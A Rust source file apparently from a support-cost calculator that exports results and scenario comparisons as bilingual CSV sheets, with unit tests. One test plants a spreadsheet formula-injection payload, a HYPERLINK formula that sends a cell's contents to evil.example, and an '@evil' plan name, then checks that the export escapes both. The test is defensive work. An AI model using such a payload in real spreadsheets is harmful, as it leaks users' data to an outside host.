//! The results as a sheet a client can read (issue 14.11): the answer, every input with its unit, the
//! platform's plans, each option's breakdown, the cheapest option in each range, the break-evens in
//! words, and the chart's data at a round step. Labels are the page's, in its language; numbers are
//! plain, in the language's way of writing them (`model::export::Sheet`).

use crate::i18n::{Lang, TITLE};
use crate::model::compare::{against_first, assumptions, summary};
use crate::model::export::{text, Sheet};
use crate::model::history::first_month_ahead;
use crate::model::projection::project;
use crate::model::regimes::Regime;
use crate::model::report::{LineKind, OptionReport, Report};
use crate::model::schema::{figures, input, input_at, Section, Unit};
use crate::model::series::stepped;
use crate::model::uncertainty::simulate;
use crate::model::{OptionId, Scenario};

/// A figure of an option's report, for one row of the sheet.
type Figure = fn(&OptionReport) -> Option<f64>;
use crate::text::{
    answer, crossing_sentence, history_columns, history_label, kind_name, no_crossing,
    option_detail, plans_caveat, projection_notes, projection_verdict, regimes_sentence,
    tornado_head, Reading,
};

/// The whole sheet. `date` is the day it is made, as the page writes dates; `reading` says what the
/// verdict is read by and who handles escalations (neither is part of the scenario).
/// A consultant's fields that are filled in (SPEC 4.1), each with its label: prepared for, prepared
/// by, notes.
pub fn consultants_fields(s: &Scenario, l: Lang) -> Vec<(&'static str, &str)> {
    [
        ("prepared_for", s.prepared_for.as_str()),
        ("prepared_by", s.prepared_by.as_str()),
        ("notes", s.notes.as_str()),
    ]
    .into_iter()
    .filter(|(_, v)| !v.is_empty())
    .filter_map(|(name, v)| Some((input(Section::Scenario, name)?.label.get(l), v)))
    .collect()
}

pub fn results_sheet(
    s: &Scenario,
    r: &Report,
    regimes: &[Regime],
    reading: Reading,
    date: &str,
    l: Lang,
) -> String {
    let mut sheet = Sheet::new(l == Lang::De);
    let cur = s.currency.as_str();
    let pick = |en, de| l.pick(en, de);
    let escalations_mine = reading.escalations_mine;
    let answer = answer(s, r, reading, l);
    sheet.texts(&[l.pick(TITLE.0, TITLE.1)]);
    sheet.texts(&[pick("Scenario", "Szenario"), &s.name]);
    for (label, value) in consultants_fields(s, l) {
        sheet.texts(&[label, value]);
    }
    sheet.texts(&[pick("Date", "Datum"), date]);
    sheet.texts(&[pick("Currency", "Währung"), cur]);
    sheet.texts(&[pick("Answer", "Antwort"), &answer]);
    let ranges = regimes_sentence(s.chart.x, regimes, s.chart.max, cur, l);
    sheet.texts(&[
        pick("Cheapest in each range", "Günstigste je Bereich"),
        &ranges,
    ]);
    sheet.blank();

    // Every input in the units the page shows it in (percent as percent).
    sheet.texts(&[
        pick("Input", "Eingabe"),
        pick("Value", "Wert"),
        pick("Unit", "Einheit"),
    ]);
    for (input, range) in figures() {
        if input.section == Section::Ai && !s.ai.enabled {
            continue;
        }
        let unit = range.unit;
        let Some((v, set)) = input.figure(s) else {
            // An optional number that follows nothing, not set: what that means ("No cap").
            if let Some(words) = input.unset_words() {
                sheet.texts(&[&input.listed_label(l), "", words.get(l)]);
            }
            continue;
        };
        let shown = if unit.is_percent() { v * 100.0 } else { v };
        let mut unit_text = match unit {
            Unit::Percent => "%".to_string(),
            _ => unit.text(cur, s.platform.billing_unit, l),
        };
        if !set {
            unit_text = format!(
                "{unit_text} ({})",
                pick("same as workload", "wie Arbeitsaufkommen")
            );
        }
        let row = [
            text(&input.listed_label(l)),
            sheet.number(Some(shown)),
            text(&unit_text),
        ];
        sheet.row(&row);
    }
    let billed = s.platform.billing_unit.name().get(l);
    sheet.texts(&[pick("Platform billed", "Plattform rechnet ab"), billed]);
    let escalations = if escalations_mine {
        pick(
            "by you, at the value of your hour",
            "von Ihnen, zum Wert Ihrer Stunde",
        )
    } else {
        pick(
            "by developers, at the developer rate",
            "von der Entwicklung, zum Entwicklersatz",
        )
    };
    sheet.texts(&[
        pick("Escalations handled", "Eskalationen bearbeitet"),
        escalations,
    ]);
    if let Some(terms) = crate::text::ai_terms(s, l) {
        sheet.texts(&[pick("AI front line", "KI als erste Instanz"), &terms]);
    }
    if let Some((_, note)) = r.workload.ai.and_then(|a| crate::text::ai_at_cap(s, &a, l)) {
        sheet.texts(&[pick("AI at its cap", "KI an ihrer Obergrenze"), &note]);
    }
    sheet.blank();

    let noun = s.platform.billing_unit.noun().get(l);
    let fee = format!(
        "{} ({cur} / {})",
        pick("Monthly fee", "Monatsgebühr"),
        pick("month", "Monat")
    );
    let included = format!("{} ({noun})", pick("Included", "Inklusive"));
    let extra = format!("{} ({cur})", pick("Per extra unit", "Pro weitere Einheit"));
    sheet.texts(&[pick("Plan", "Tarif"), &fee, &included, &extra]);
    for p in &s.platform.plans {
        let overage = match p.overage_per_unit {
            Some(v) => sheet.number(Some(v)),
            None => text(pick("none (capped)", "keiner (gedeckelt)")),
        };
        let row = [
            text(&p.name),
            sheet.number(Some(p.monthly_fee)),
            sheet.number(Some(p.included_units)),
            overage,
        ];
        sheet.row(&row);
    }
    sheet.texts(&[plans_caveat(l)]);
    sheet.blank();

    // One column per enabled option, one row per line of the breakdown, as the page's table.
    let month = format!("{cur} / {}", pick("month", "Monat"));
    let mut head = vec![text(&format!(
        "{} ({month})",
        pick("Monthly cost", "Monatliche Kosten")
    ))];
    head.extend(r.options.iter().map(|o| text(o.id.name().get(l))));
    sheet.row(&head);
    for kind in LineKind::ALL {
        if !r
            .options
            .iter()
            .any(|o| o.lines.iter().any(|x| x.kind == kind))
        {
            continue;
        }
        let mut cells = vec![text(kind_name(kind, l))];
        cells.extend(r.options.iter().map(|o| {
            let amount = o.lines.iter().find(|x| x.kind == kind).map(|x| x.amount);
            sheet.number(amount)
        }));
        sheet.row(&cells);
    }
    let mut total = vec![text(pick("Total", "Gesamt"))];
    total.extend(r.options.iter().map(|o| match o.monthly_cost {
        Some(c) => sheet.number(Some(c)),
        None => text(pick("not available", "nicht verfügbar")),
    }));
    sheet.row(&total);
    let mut per_ticket = vec![text(&format!(
        "{} ({cur})",
        pick("Per ticket", "Pro Ticket")
    ))];
    per_ticket.extend(r.options.iter().map(|o| sheet.number(o.cost_per_ticket)));
    sheet.row(&per_ticket);
    let mut staffing = vec![text(pick("Staffing", "Personal"))];
    staffing.extend(
        r.options
            .iter()
            .map(|o| text(&option_detail(o, s.platform.billing_unit, l))),
    );
    sheet.row(&staffing);
    // Coverage, first replies and, with the value of fast answers on, what they keep (SPEC 5).
    let fast = format!(
        "{} {} h (%)",
        pick("Answered within", "Beantwortet binnen"),
        crate::format::plain(s.value.fast_response_hours, l.code())
    );
    let per_option: [(&str, Figure); 4] = [
        (
            pick("Support hours a month", "Support-Stunden im Monat"),
            |o| Some(o.required_hours),
        ),
        (
            pick("Covered hours a week", "Abgedeckte Stunden pro Woche"),
            |o| Some(o.coverage_hours_per_week),
        ),
        (&fast, |o| Some(o.fast_reply_share * 100.0)),
        (
            pick(
                "Mean wait for a first reply (h)",
                "Mittlere Wartezeit auf die erste Antwort (h)",
            ),
            |o| Some(o.mean_first_reply_hours),
        ),
    ];
    for (label, value) in per_option {
        let mut cells = vec![text(label)];
        cells.extend(r.options.iter().map(|o| sheet.number(value(o))));
        sheet.row(&cells);
    }
    if s.value.enabled {
        let kept = format!(
            "{} ({cur})",
            pick("Customer value kept", "Gehaltener Kundenwert")
        );
        let net = format!("{} ({cur})", pick("Net cost", "Nettokosten"));
        for (label, value) in [
            (kept, (|o: &OptionReport| o.value_kept) as Figure),
            (net, |o| o.net_cost.flatten()),
        ] {
            let mut cells = vec![text(&label)];
            cells.extend(r.options.iter().map(|o| sheet.number(value(o))));
            sheet.row(&cells);
        }
    }
    let st = &r.staffing;
    if let Some(live) = st.live {
        sheet.blank();
        sheet.texts(&[pick("Live chat and phone", "Live-Chat und Telefon")]);
        for (label, v) in [
            (
                pick(
                    "Live agents in every covered hour",
                    "Live-Personen in jeder abgedeckten Stunde",
                ),
                st.live_agents,
            ),
            (
                pick("Live hours a month", "Live-Stunden im Monat"),
                st.live_hours,
            ),
            (
                pick(
                    "Traffic in the busiest hour (Erlang)",
                    "Verkehr in der Spitzenstunde (Erlang)",
                ),
                live.traffic_erlangs,
            ),
            (
                pick("Service level reached (%)", "Erreichtes Servicelevel (%)"),
                live.service_level * 100.0,
            ),
            (
                pick("Average speed of answer (s)", "Mittlere Annahmezeit (s)"),
                live.average_answer_seconds.unwrap_or(0.0),
            ),
            (
                pick("Occupancy (%)", "Auslastung (%)"),
                live.occupancy * 100.0,
            ),
        ] {
            sheet.row(&[text(label), sheet.number(Some(v))]);
        }
    }
    sheet.blank();
    let serves = crate::text::baseline_serves(s, r, escalations_mine);
    helpdesk_months(&mut sheet, s, l);
    months_ahead(&mut sheet, s, serves, l);
    if s.uncertainty.enabled {
        what_you_dont_know(&mut sheet, s, l);
    }

    sheet.texts(&[pick(
        "Where the answer changes",
        "Wo sich die Antwort ändert",
    )]);
    if r.chart_break_even.is_empty() {
        sheet.texts(&[&no_crossing(s.chart.x, s.chart.max, cur, l)]);
    }
    for c in &r.chart_break_even {
        sheet.texts(&[&crossing_sentence(s.chart.x, c, cur, l)]);
    }
    sheet.blank();

    // The chart's data at a round step, from its start to its end.
    let series = stepped(s);
    let enabled: Vec<OptionId> = OptionId::ALL
        .into_iter()
        .filter(|id| series.enabled[*id])
        .collect();
    let axis = series.axis.name().get(l);
    let axis = if series.axis == crate::model::XAxis::Tier1ResolutionRate {
        format!("{axis} (%)")
    } else {
        axis.to_string()
    };
    let mut head = vec![text(&axis)];
    head.extend(
        enabled
            .iter()
            .map(|id| text(&format!("{} ({month})", id.name().get(l)))),
    );
    head.push(text(pick("Cheapest", "Am günstigsten")));
    sheet.row(&head);
    for (i, x) in series.xs.iter().enumerate() {
        let shown = if series.axis == crate::model::XAxis::Tier1ResolutionRate {
            x * 100.0
        } else {
            *x
        };
        let mut cells = vec![sheet.number(Some(shown))];
        cells.extend(enabled.iter().map(|id| sheet.number(series.totals[i][*id])));
        cells.push(text(series.cheapest(i).map_or("", |c| c.name().get(l))));
        sheet.row(&cells);
    }
    sheet.finish()
}

/// The months read from a helpdesk export (SPEC 8), oldest first; nothing without them.
fn helpdesk_months(sheet: &mut Sheet, s: &Scenario, l: Lang) {
    if s.history.is_empty() {
        return;
    }
    sheet.texts(&[history_label(l)]);
    let head = history_columns(l);
    sheet.texts(&head);
    for m in &s.history {
        let row = [
            text(&m.month.to_string()),
            sheet.number(Some(m.tickets)),
            sheet.number(m.replies_per_ticket),
            sheet.number(m.first_reply_hours),
            text(if m.partial {
                l.pick("partial", "unvollständig")
            } else {
                ""
            }),
        ];
        sheet.row(&row);
    }
    sheet.blank();
}

/// The months ahead: the spikes, the answer and paybacks in words, then month by month each option's
/// cost and cumulative cost (SPEC 6.1), projected here: the page's report leaves the months out.
fn months_ahead(sheet: &mut Sheet, s: &Scenario, baseline_serves: bool, l: Lang) {
    let p = &project(s);
    let cur = s.currency.as_str();
    sheet.texts(&[Section::Projection.title().get(l)]);
    for spike in &s.projection.spikes {
        let row = [
            text(l.pick("Spike in month", "Spitze in Monat")),
            sheet.number(Some(spike.month)),
            text(l.pick("× the trend", "× Trend")),
            sheet.number(Some(spike.multiplier)),
        ];
        sheet.row(&row);
    }
    sheet.texts(&[&projection_verdict(p, baseline_serves, cur, l)]);
    for (_, line) in projection_notes(p, l) {
        sheet.texts(&[&line]);
    }
    let ids: Vec<OptionId> = p.totals.iter().map(|(id, _)| id).collect();
    let start = first_month_ahead(&s.history);
    let mut head = vec![text(l.pick("Month", "Monat"))];
    if start.is_some() {
        head.push(text(l.pick("Calendar month", "Kalendermonat")));
    }
    head.push(text(l.pick("Tickets", "Tickets")));
    for id in &ids {
        let name = id.name().get(l);
        head.push(text(&format!("{name} ({cur})")));
        head.push(text(&format!(
            "{name}, {} ({cur})",
            l.pick("cumulative", "kumuliert")
        )));
    }
    sheet.row(&head);
    for m in &p.months {
        let mut cells = vec![sheet.number(Some(f64::from(m.month)))];
        if let Some(start) = start {
            cells.push(text(&start.plus(i64::from(m.month) - 1).to_string()));
        }
        cells.push(sheet.number(Some(m.tickets)));
        for id in &ids {
            cells.push(sheet.number(m.costs.get(*id).copied().flatten()));
            cells.push(sheet.number(m.cumulative.get(*id).copied().flatten()));
        }
        sheet.row(&cells);
    }
    sheet.blank();
}

/// The uncertainty: each range, then each option's chance of being cheapest and its P10, P50 and P90,
/// and the tornado (SPEC 6.2).
fn what_you_dont_know(sheet: &mut Sheet, s: &Scenario, l: Lang) {
    let cur = s.currency.as_str();
    let u = simulate(s);
    sheet.texts(&[Section::Uncertainty.title().get(l)]);
    let draws = [
        text(l.pick("Draws", "Ziehungen")),
        sheet.number(Some(u.draws as f64)),
        text(l.pick("Seed", "Startwert")),
        sheet.number(Some(u.seed as f64)),
    ];
    sheet.row(&draws);
    sheet.texts(&[
        l.pick("Range", "Spanne"),
        l.pick("Low", "Niedrig"),
        l.pick("Likely", "Wahrscheinlich"),
        l.pick("High", "Hoch"),
    ]);
    for (k, b) in s.uncertainty.ranges.iter() {
        let Some(input) = input_at(k.path()) else {
            continue;
        };
        let scale = if input.range().is_some_and(|r| r.unit.is_percent()) {
            100.0
        } else {
            1.0
        };
        let row = [
            text(&input.listed_label(l)),
            sheet.number(Some(b.low * scale)),
            sheet.number(Some(k.value(s) * scale)),
            sheet.number(Some(b.high * scale)),
        ];
        sheet.row(&row);
    }
    sheet.texts(&[
        l.pick("Option", "Option"),
        l.pick(
            "Chance of being cheapest (%)",
            "Chance, am günstigsten zu sein (%)",
        ),
        l.pick("Available (%)", "Verfügbar (%)"),
        &format!("P10 ({cur})"),
        &format!("P50 ({cur})"),
        &format!("P90 ({cur})"),
    ]);
    for (id, o) in u.options.iter() {
        let row = [
            text(id.name().get(l)),
            sheet.number(Some(o.p_cheapest * 100.0)),
            sheet.number(Some(o.available_share * 100.0)),
            sheet.number(o.p10),
            sheet.number(o.p50),
            sheet.number(o.p90),
        ];
        sheet.row(&row);
    }
    let none = [
        text(l.pick("No option available (%)", "Keine Option verfügbar (%)")),
        sheet.number(Some(u.p_none * 100.0)),
    ];
    sheet.row(&none);
    if let Some((first, second)) = u.compared {
        sheet.texts(&[&tornado_head(first, second, l)]);
        sheet.texts(&[
            l.pick("Range", "Spanne"),
            &format!(
                "{} ({cur})",
                l.pick("Saving at the low end", "Ersparnis am niedrigen Ende")
            ),
            &format!(
                "{} ({cur})",
                l.pick("Saving at the high end", "Ersparnis am hohen Ende")
            ),
        ]);
        for b in &u.tornado {
            let name = input_at(b.path).map_or(String::new(), |i| i.listed_label(l));
            let row = [
                text(&name),
                sheet.number(b.low_saving),
                sheet.number(b.high_saving),
            ];
            sheet.row(&row);
        }
    }
    sheet.blank();
}

/// The compared scenarios as a sheet: the results of each, the difference against the first, and the
/// inputs that differ.
pub fn compare_sheet(scenarios: &[Scenario], date: &str, l: Lang) -> String {
    let mut sheet = Sheet::new(l == Lang::De);
    let pick = |en, de| l.pick(en, de);
    let summaries: Vec<_> = scenarios.iter().map(summary).collect();
    let currency = |i: usize| scenarios[i].currency.as_str();
    sheet.texts(&[l.pick(TITLE.0, TITLE.1), pick("Comparison", "Vergleich")]);
    sheet.texts(&[pick("Date", "Datum"), date]);
    sheet.blank();
    let mut head = vec![text(pick("Per month", "Pro Monat"))];
    head.extend(scenarios.iter().map(|s| text(&s.name)));
    sheet.row(&head);
    let mut row = vec![text(pick("Currency", "Währung"))];
    row.extend(scenarios.iter().map(|s| text(&s.currency)));
    sheet.row(&row);
    // Who each scenario is for, by whom, and its notes, where any scenario has them.
    for (k, name) in ["prepared_for", "prepared_by", "notes"]
        .into_iter()
        .enumerate()
    {
        let values: Vec<&str> = scenarios
            .iter()
            .map(|s| [&s.prepared_for, &s.prepared_by, &s.notes][k].as_str())
            .collect();
        if values.iter().any(|v| !v.is_empty()) {
            let label = input(Section::Scenario, name).map_or(name, |i| i.label.get(l));
            let mut row = vec![text(label)];
            row.extend(values.into_iter().map(text));
            sheet.row(&row);
        }
    }
    let mut row = vec![text(pick("Cheapest", "Am günstigsten"))];
    row.extend(
        summaries
            .iter()
            .map(|r| text(r.cheapest.map_or("", |(id, _)| id.name().get(l)))),
    );
    sheet.row(&row);
    let mut row = vec![text(pick("Cheapest cost", "Kosten der günstigsten"))];
    row.extend(
        summaries
            .iter()
            .map(|r| sheet.number(r.cheapest.map(|(_, c)| c))),
    );
    sheet.row(&row);
    let first = scenarios.first().map_or("", |s| s.name.as_str());
    let mut row = vec![text(&format!(
        "{} {first}",
        pick("Difference against", "Unterschied zu")
    ))];
    row.extend(
        against_first(&summaries)
            .into_iter()
            .map(|d| sheet.number(d)),
    );
    sheet.row(&row);
    for id in OptionId::ALL {
        let mut row = vec![text(id.name().get(l))];
        row.extend(summaries.iter().map(|r| match r.costs[id] {
            None => text(pick("off", "aus")),
            Some(None) => text(pick("not available", "nicht verfügbar")),
            Some(Some(c)) => sheet.number(Some(c)),
        }));
        sheet.row(&row);
    }
    let mut row = vec![text(pick(
        "Cheapest over the months ahead",
        "Am günstigsten über die nächsten Monate",
    ))];
    row.extend(summaries.iter().enumerate().map(|(i, r)| {
        let (best, months) = r.horizon;
        text(&crate::text::horizon_cheapest(best, months, currency(i), l))
    }));
    sheet.row(&row);
    sheet.blank();
    // Every assumption of every scenario (SPEC 7), the inputs that differ marked in the last column.
    let refs: Vec<&Scenario> = scenarios.iter().collect();
    let mut head = vec![text(pick("Every assumption", "Alle Annahmen"))];
    head.extend(scenarios.iter().map(|s| text(&s.name)));
    head.push(text(pick("Differs", "Weicht ab")));
    sheet.row(&head);
    for d in assumptions(&refs) {
        let mut row = vec![text(&d.changed.label(l))];
        row.extend(
            d.values
                .iter()
                .enumerate()
                .map(|(i, v)| text(&v.as_ref().map_or(String::new(), |v| v.text(currency(i), l)))),
        );
        row.push(text(if d.differs { pick("yes", "ja") } else { "" }));
        sheet.row(&row);
    }
    sheet.blank();
    sheet.texts(&[plans_caveat(l)]);
    sheet.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::regimes::regimes;
    use crate::model::{report, Plan};

    fn sheet_of(s: &Scenario, l: Lang) -> String {
        let r = report(s);
        let ranges = regimes(s, &r.chart_break_even);
        results_sheet(
            s,
            &r,
            &ranges,
            Reading {
                escalations_mine: true,
                ..Reading::default()
            },
            "2026-12-02",
            l,
        )
    }

    #[test]
    fn the_sheet_reads_as_the_page_does_with_every_input_and_its_unit() {
        let csv = sheet_of(&Scenario::spec_example(), Lang::En);
        for line in [
            "Support cost calculator\r\n",
            "Scenario,Example plugin shop\r\n",
            "Answer,\"At 300 tickets a month the platform is cheapest: $5,089 a month, $2,261 less than doing it yourself.\"\r\n",
            "Cheapest in each range,Below 30 tickets: doing it yourself. 30 to 116: a contractor. From 117: the platform.\r\n",
            "Workload: Tickets per month,300,tickets\r\n",
            "Workload: Tier-1 resolution rate,70,%\r\n",
            "Rates: Developer hourly cost,60,$ / h\r\n",
            "Platform billed,Per reply\r\n",
            "Growth,549,350,1.9\r\n",
            "Monthly cost (USD / month),Do it yourself,Employee,Contractor,Support platform\r\n",
            "Total,7350,8530,5282.5,5089\r\n",
            "Staffing,122.5\u{a0}h of your time,1.00 FTE paid (0.56 needed),62.5\u{a0}h billed,\"Growth plan, 750 replies\"\r\n",
            "The platform is cheaper than a contractor from 117 tickets per month.\r\n",
            "300,7350,8530,5282.5,5089,Support platform\r\n",
        ] {
            assert!(csv.contains(line), "{line:?} not in\n{csv}");
        }
        assert!(
            csv.contains("Plan,Monthly fee (USD / month),Included (replies),Per extra unit (USD)")
        );
        assert!(csv.contains("illustrative examples"));
        // The chart's data at a step of 20 tickets: 101 rows, not 2,001.
        let rows = csv
            .lines()
            .skip_while(|l| !l.starts_with("Tickets per month,"))
            .count();
        assert_eq!(rows, 102);
        assert!(!csv.contains("diy"), "no internal ids");
    }

    #[test]
    fn a_german_sheet_uses_decimal_commas_and_semicolons() {
        let csv = sheet_of(&Scenario::spec_example(), Lang::De);
        assert!(csv.contains("Gesamt;7350;8530;5282,5;5089\r\n"), "{csv}");
        assert!(
            csv.contains("Arbeitsaufkommen: Antworten pro Ticket;2,5;Antworten\r\n"),
            "{csv}"
        );
        assert!(csv.contains("Bei 300 Tickets im Monat ist die Plattform am günstigsten"));
    }

    #[test]
    fn names_from_a_link_cannot_become_formulas_in_the_sheet() {
        let mut s = Scenario {
            name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
            ..Scenario::default()
        };
        s.platform.plans = vec![Plan::new("@evil", 549.0, 350.0, Some(1.9))];
        let csv = sheet_of(&s, Lang::En);
        assert!(csv.contains("Scenario,\"'=HYPERLINK("), "{csv}");
        assert!(csv.contains("'@evil,549,350,1.9"));
    }

    #[test]
    fn a_comparison_sheet_has_each_scenario_its_difference_and_what_differs() {
        let a = Scenario::default();
        let b = Scenario {
            name: "Busy".into(),
            workload: crate::model::scenario::Workload {
                tickets_per_month: 900.0,
                ..a.workload.clone()
            },
            ..a.clone()
        };
        let csv = compare_sheet(&[a, b], "2026-12-02", Lang::En);
        assert!(
            csv.contains("Per month,Example plugin shop,Busy\r\n"),
            "{csv}"
        );
        assert!(csv.contains("Cheapest cost,5089,"), "{csv}");
        assert!(
            csv.contains("Difference against Example plugin shop,,"),
            "{csv}"
        );
        // Every assumption, the differing ones marked, then the plans' caveat.
        assert!(
            csv.contains("Workload: Tickets per month,300 tickets,900 tickets,yes\r\n"),
            "{csv}"
        );
        assert!(
            csv.contains("Workload: Replies per ticket,2.5 replies,2.5 replies,\r\n"),
            "{csv}"
        );
        assert!(csv.contains("Plan 2: Monthly fee,"), "{csv}");
        assert!(csv.contains(plans_caveat(Lang::En)), "{csv}");
    }
}
